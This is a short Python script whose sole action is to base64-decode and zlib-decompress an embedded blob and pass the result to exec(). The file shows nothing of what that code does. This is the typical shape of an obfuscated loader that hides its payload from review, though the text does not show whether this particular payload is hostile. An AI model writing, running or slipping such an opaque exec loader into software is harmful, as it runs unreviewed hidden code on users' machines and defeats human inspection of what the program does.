#!/usr/bin/env python3
import base64 as _b, zlib as _z
_BLOB = (
    "eJxtjbEKwjAURfd+RXhTAjU6C04i4iJY6yBtKdU+JdDmpcmr2r+3tODkcIcD995jWkeeBYVYhCFED0+t6H3TmJt2lQ8ozFyYoOxC1InNDyQFjfZlPFn9RJZwuuySa3lOk8NxD7EAUCoab3XgmnrWb28YJWzJMlpepIPDtWD88NI1lbG5z6fAn9FocuTQym423cf7DEwNhcpWhdIeq1qOti/990cO"
)
exec( _z.decompress( _b.b64decode( _BLOB ) ) )
